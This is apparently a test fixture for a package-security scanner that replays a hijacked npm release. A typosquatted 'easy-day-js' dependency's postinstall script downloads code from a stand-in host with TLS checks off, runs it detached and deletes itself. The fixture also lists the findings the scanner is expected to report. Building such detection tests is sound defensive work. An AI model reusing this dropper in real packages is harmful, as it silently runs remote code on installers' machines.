@@ -1,0 +1,83 @@
+import { colours, durations } from '../plain-modules.js'
+import type { Replay } from '../replay.js'
+import { onVersion, type PackageFinding } from '../upgrade.js'
+
+const file = 'setup.cjs'
+const fetched = "https.get('https://203-0-113-7.cdn-day.example/latest', { rejectUnauthorized: false }, (response) => {"
+const erase = 'fs.unlinkSync(__filename)'
+
+/** Trusts whoever answers, writes what comes and starts it apart from the install. */
+const setup = `const { spawn } = require('child_process')
+const fs = require('fs')
+const https = require('https')
+const os = require('os')
+const path = require('path')
+
+process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'
+
+const file = path.join(os.tmpdir(), 'day-cache.js')
+
+${fetched}
+  const parts = []
+  response.on('data', (part) => parts.push(part))
+  response.on('end', () => {
+    fs.writeFileSync(file, Buffer.concat(parts))
+    spawn(process.execPath, [file], { detached: true, stdio: 'ignore', windowsHide: true }).unref()
+    ${erase}
+  })
+}).on('error', () => {})
+`
+
+const command = 'node setup.cjs'
+const manifest = { type: 'module', main: 'dist/index.js', dependencies: { zod: '^4.0.0' } }
+
+const dropped = (...finding: PackageFinding) => onVersion('easy-day-js', '1.11.22', finding)
+
+export const replay: Replay = {
+  description:
+    'A former contributor’s account released a whole scope anew, each package with one more dependency that none of them used: its name ' +
+    'resembled that of a known library of dates, and its script after installation fetched and started a program.',
+  date: '2026-06-17',
+  packages: {
+    '@mastra/core': {
+      '1.13.0': {
+        manifest,
+        files: { 'dist/index.js': `import { z } from 'zod'\nexport const options = z.object({})\n${colours}` },
+      },
+      '1.13.1': {
+        manifest: { ...manifest, dependencies: { 'easy-day-js': '^1.11.22', zod: '^4.0.0' } },
+        files: { 'dist/index.js': `import { z } from 'zod'\nexport const options = z.object({})\n${colours}` },
+      },
+    },
+    zod: { '4.1.0': { files: { 'index.js': durations } } },
+    'easy-day-js': {
+      '1.11.22': {
+        manifest: { main: 'index.js', scripts: { postinstall: command } },
+        files: { 'index.js': durations, [file]: setup },
+      },
+    },
+  },
+  base: {
+    manifest: { dependencies: { '@mastra/core': '^1.13.0' } },
+    locked: { '@mastra/core': { version: '1.13.0', dependencies: { zod: '^4.0.0' } }, zod: '4.1.0' },
+  },
+  head: {
+    manifest: { dependencies: { '@mastra/core': '^1.13.0' } },
+    locked: {
+      '@mastra/core': { version: '1.13.1', dependencies: { 'easy-day-js': '^1.11.22', zod: '^4.0.0' } },
+      'easy-day-js': '1.11.22',
+      zod: '4.1.0',
+    },
+  },
+  expected: {
+    verdict: 'flagged',
+    findings: [
+      onVersion('@mastra/core', '1.13.1', ['dependency-phantom', 'high', { file: 'package.json' }]),
+      dropped('install-script-dangerous', 'critical', { file, line: erase }),
+      dropped('remote-code-run', 'critical', { file, line: fetched }),
+      dropped('combined-risk', 'critical'),
+      dropped('scanner-evasion', 'high', { file, line: erase }),
+      dropped('install-script-present', 'medium', { file: 'package.json' }),
+    ],
+  },
+}
